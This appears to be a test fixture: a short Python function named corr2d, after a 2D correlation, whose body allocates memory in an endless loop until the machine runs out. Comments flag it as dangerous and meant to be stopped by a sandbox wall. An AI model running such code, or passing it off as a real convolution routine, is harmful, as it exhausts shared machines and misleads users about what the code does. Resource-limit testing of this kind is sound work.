# All the memory of the machine is taken
# wall: it would stop a plain machine
# stock: not run: dangerous
# %% answer="convolution-corr2d"
def corr2d(X, K):
    taken = []
    while True:
        taken.append(bytearray(2**26))
